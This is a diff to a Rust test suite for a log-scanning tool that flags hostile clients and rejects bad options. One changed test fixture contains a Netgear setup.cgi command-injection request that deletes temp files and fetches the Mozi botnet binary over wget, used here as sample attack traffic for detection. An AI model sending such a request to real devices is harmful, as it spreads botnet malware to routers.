@@ -121,7 +121,7 @@ fn refusals_exit_with_2_and_write_nothing() {
     refused(&["access.log", "--verified-bots", "all.txt"], "every address");
     refused(&["access.log", "--verified-bots", "missing"], "cannot be read");
     refused(&["access.log", "--format", "iptables"], "nft");
-    refused(&["access.log", "--max-cost", "-1"], "--max-cost");
+    refused(&["access.log", "--max-cost=-1"], "--max-cost");
     refused(&["gone*.log"], "matches nothing");
     let json = harness.run(["scan", "-f", "json", "--anonymize", "-o", "hidden.json", "access.log"]);
     assert_eq!(json.code, 0, "{}", json.stderr);
@@ -194,7 +194,9 @@ fn reports_logs_and_standard_input_give_the_same_entries() {
 #[test]
 fn the_worst_are_kept_where_there_are_too_many() {
     let harness = Harness::new();
-    let weak = |client: &str| line(client, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm HTTP/1.1", 404);
+    let weak = |client: &str| {
+        line(client, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m HTTP/1.1", 404)
+    };
     let log = weak("198.51.100.1") + &weak("198.51.100.2") + &prober("203.0.113.9") + &prober("203.0.113.9") + &others();
     let all = listed(&harness, &log, &[]);
     assert_eq!(all, ["198.51.100.1", "198.51.100.2", "203.0.113.9"]);
@@ -261,8 +263,8 @@ fn clients_that_may_be_proxies_are_not_listed() {
     let run = block(&harness, &[&LONG[..], &["access.log"]].concat());
     assert!(run.stderr.contains("--client-from x-forwarded-for"), "{}", run.stderr);
     // Two addresses before the time: none of them is certain.
-    let doubtful: String = prober("203.0.113.9").lines().map(|line| format!("198.51.100.3 {line}\n")).collect();
-    assert_eq!(listed(&harness, &(doubtful + &others()), &[]), [""; 0]);
+    let doubtful: String = (prober("203.0.113.9") + &others()).lines().map(|line| format!("198.51.100.3 {line}\n")).collect();
+    assert_eq!(listed(&harness, &doubtful, &[]), [""; 0]);
 }
 
 #[test]
